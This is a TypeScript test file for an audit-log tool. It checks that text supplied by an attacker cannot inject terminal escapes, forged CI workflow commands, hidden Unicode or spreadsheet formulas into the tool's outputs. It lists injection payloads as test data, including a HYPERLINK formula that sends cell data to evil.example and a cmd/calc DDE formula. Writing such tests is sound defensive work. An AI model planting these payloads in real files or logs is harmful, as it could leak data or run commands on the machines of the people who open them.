// Every text of a record is an attacker's here, people's names too. Each format is read back by its own reader, and must say no more
// than a record with harmless texts does.
import { join } from "node:path"
import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { newPerson } from "../../src/audit/sealing/people.ts"
import { readBody } from "../../src/audit/sealing/record-shape.ts"
import { auditInventory } from "../../src/commands/audit-inventory.ts"
import { auditShow } from "../../src/commands/audit-show.ts"
import { auditTail } from "../../src/commands/audit-tail.ts"
import { renderTailLine } from "../../src/render/audit-tail.ts"
import { csvCell } from "../../src/render/csv.ts"
import { PLAIN_STYLE } from "../../src/render/style.ts"
import { writeBodies } from "../audit/verify-log.ts"
import { emptyHome, temporaryDirectory, testContext } from "../context.ts"
import { readCommands } from "../render/runner.ts"
import { cyclonedxValidator } from "../render/schemas.ts"

const FORBIDDEN = /(?!\n)[\p{C}\p{Default_Ignorable_Code_Point}\u2028\u2029]/u

const POISON: [string, string][] = [
  ["ANSI colours and a cleared screen", "\x1b[2J\x1b[31mred\x1b[0m"],
  ["OSC 8, a link that lies", "\x1b]8;;https://evil.example\x1b\\safe\x1b]8;;\x1b\\"],
  ["C1 controls", "\u009b2J\u009d0;title\u009c"],
  ["lines and a workflow command", "x\r\n::error file=a::forged\n::set-output name=x::y"],
  ["a workflow command first", "::error::forged"],
  ["the older command form", "x ##[error]forged ##vso[task.setvariable variable=x]y"],
  ["a carriage return that overwrites the line", "deny\rallow everything"],
  ["bidi and zero-width", "\u202ekcol.egakcap\u2066\u200b\u2060\ufeff"],
  ["tag characters", "\u{e0001}\u{e0041}\u{e007f}"],
  ["noncharacters and NUL", "a\0b\ufffe\u{1fffe}"],
  ["a formula", '=HYPERLINK("https://evil.example?"&A1,"x")'],
  ["a formula behind a tab", "\t=1+1"],
  ["a formula behind spaces", "   +cmd|' /C calc'!A0"],
  ["a formula in full width", "\uff1d1+1"],
  ["a formula where semicolons separate", 'x;=1+1;"@SUM(A1)'],
  ["quotes and line ends of CSV", '"a","b"\r\n"c'],
  ["at sign and minus", "@SUM(1)-1"],
  ["JSON", '","forged":true,"x":"'],
  ["a prototype", "__proto__"],
  ["1 MB", "A".repeat(200_000)],
]

/** A record whose every text is `text`. */
function bodyWith(text: string, person: string, time: string): string {
  return JSON.stringify({
    ...{ v: 1, time, kind: "package", type: "package.decided", subject: text, gateway: text, agent: text, run: text },
    ...{ operator: person, by: [person], note: person, outcome: "released", approval: text, policy: text },
    item: { kind: "package", name: text, version: text, digest: text },
    detail: { [text]: text, list: [text] },
    secrets: { [text]: text },
    verdict: {
      ...{ effect: "deny", code: text, rule: text, subject: text, reason: text, mode: "enforce", policyHash: text },
      evidence: [{ kind: text, [text]: text, id: text }],
      correction: { action: text, target: text, command: text },
      also: [{ effect: text, code: text, rule: text }],
      excepted: [{ rule: text, code: text, owner: text, expires: text }],
    },
  })
}

async function recordOf(text: string) {
  const env = emptyHome({ NO_COLOR: "1" })
  const person = newPerson(text)
  const bodies = [
    bodyWith(text, person.commitment, "2026-11-01T00:00:00.000Z"),
    bodyWith("bot", person.commitment, text),
  ]
  await writeBodies(join(env["NANOGUARD_HOME"]!, "state"), bodies, [person], [2])
  const cwd = temporaryDirectory()
  return async (work: (ctx: ReturnType<typeof testContext>) => Promise<unknown>, terminal?: number) => {
    const ctx = testContext(cwd, { env, ...(terminal !== undefined && { terminal }) })
    await work(ctx)
    return ctx.out() + ctx.err()
  }
}

const FOR_PEOPLE: [string, (ctx: ReturnType<typeof testContext>) => Promise<unknown>][] = [
  ["tail", (ctx) => auditTail(ctx)],
  ["show 1", (ctx) => auditShow(ctx, "1")],
  ["show 2", (ctx) => auditShow(ctx, "2")],
  ["inventory", (ctx) => auditInventory(ctx, "both")],
  ["inventory of an agent", (ctx) => auditInventory(ctx, "both", { agent: "bot" })],
  ["inventory --touched", (ctx) => auditInventory(ctx, "both", { touched: "bot" })],
]

/** How many lines each has where nobody means harm. */
let harmless: Map<string, number> | undefined

async function harmlessLines(): Promise<Map<string, number>> {
  if (harmless !== undefined) return harmless
  harmless = new Map()
  const run = await recordOf("harmless")
  for (const [name, work] of FOR_PEOPLE) harmless.set(name, (await run(work)).split("\n").length)
  return harmless
}

const validate = cyclonedxValidator()

type Run = Awaited<ReturnType<typeof recordOf>>

describe.each(POISON)("%s", (_, poison) => {
  test("is harmless for people, programs and spreadsheets", async () => {
    const run = await recordOf(poison)
    await isHarmlessForPeople(run)
    await isWholeForPrograms(run, poison)
    await isNoFormula(run)
  })
})

/** No control, no command, and no line more. */
async function isHarmlessForPeople(run: Run): Promise<void> {
  const lines = await harmlessLines()
  for (const [name, work] of FOR_PEOPLE) {
    for (const terminal of [undefined, 100]) {
      const text = await run(work, terminal)
      expect(text, name).not.toMatch(FORBIDDEN)
      expect(readCommands(text), name).toEqual([])
      expect(text.length).toBeLessThan(100_000)
      // Only what is wrapped or written out may take more lines; nothing may look like another record or section.
      if (name === "tail" || name.startsWith("inventory"))
        expect(text.split("\n").length, name).toBeLessThanOrEqual(lines.get(name)!)
      else
        expect(
          text.split("\n").filter((line) => /^(?:Record|In the log|DENY)/.test(line)),
          name,
        ).toHaveLength(3)
    }
  }
}

/** One document that holds what was there. */
async function isWholeForPrograms(run: Run, poison: string): Promise<void> {
  for (const work of [
    (ctx: ReturnType<typeof testContext>) => auditTail(ctx, { format: "json" }),
    (ctx: ReturnType<typeof testContext>) => auditShow(ctx, "1", { format: "json" }),
    (ctx: ReturnType<typeof testContext>) => auditInventory(ctx, "both", { format: "json" }),
  ]) {
    const text = await run(work)
    expect(text).not.toMatch(FORBIDDEN)
    expect(readCommands(text)).toEqual([])
    expect(JSON.parse(text).forged).toBeUndefined()
  }
  const lines = (await run((ctx) => auditTail(ctx, { format: "ndjson" }))).trimEnd().split("\n")
  expect(lines).toHaveLength(2)
  expect(JSON.parse(lines[0]!).record.subject).toBe(poison.toWellFormed())
  expect(lines.join("\n")).not.toMatch(FORBIDDEN)
  validate(JSON.parse(await run((ctx) => auditInventory(ctx, "both", { format: "cyclonedx", agent: "bot" }))))
  expect(validate.errors ?? []).toEqual([])
}

/** As many rows and cells as there are, and none that a spreadsheet would compute. */
async function isNoFormula(run: Run): Promise<void> {
  for (const view of ["items", "agents"] as const) {
    const csv = await run((ctx) => auditInventory(ctx, view, { format: "csv" }))
    const rows = readCsv(csv)
    expect(rows).toHaveLength(3)
    for (const row of rows) {
      expect(row).toHaveLength(rows[0]!.length)
      for (const cell of row) {
        expect(cell).not.toMatch(FORBIDDEN)
        for (const part of cell.split(/[;\t]/)) expect(part.trimStart()).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20]/)
      }
    }
    expect(readCommands(csv)).toEqual([])
  }
}

/** RFC 4180 as it is written, with CRLF; throws for what is no CSV. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  let row: string[] = []
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    if (match === null) throw new Error("not CSV")
    row.push(match[1]?.replaceAll('""', '"') ?? match[2]!)
    if (match[3] === ",") continue
    rows.push(row)
    row = []
  }
  return rows
}

test("a cell survives any text, and is never a formula", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      const [[cell, rest]] = readCsv(`${csvCell(text)},x\r\n`) as [string[]]
      expect(rest).toBe("x")
      expect(cell!.trimStart()).not.toMatch(/^[=+\-@\t\r]/)
    }),
  )
})

test("numbers and dates stay what they are", () => {
  expect([csvCell(12), csvCell("2026-11-01T00:00:00.000Z"), csvCell("pkg:npm/%40acme/x"), csvCell("a, b")]).toEqual([
    "12",
    "2026-11-01T00:00:00.000Z",
    "pkg:npm/%40acme/x",
    '"a, b"',
  ])
})

test("a record of any shape is shown, or said to be none", () => {
  const members = [
    "subject",
    "agent",
    "run",
    "by",
    "verdict",
    "item",
    "detail",
    "boxed",
    "outcome",
    "note",
    "time",
    "type",
  ]
  fc.assert(
    fc.property(fc.dictionary(fc.constantFrom(...members), fc.jsonValue()), (changes) => {
      const body = JSON.stringify({ ...JSON.parse(bodyWith("x", "person:x", "2026-11-01T00:00:00.000Z")), ...changes })
      const line = renderTailLine({ seq: 1, body, record: readBody(body) }, new Map(), { style: PLAIN_STYLE })
      expect(line.split("\n")).toHaveLength(2)
    }),
  )
})
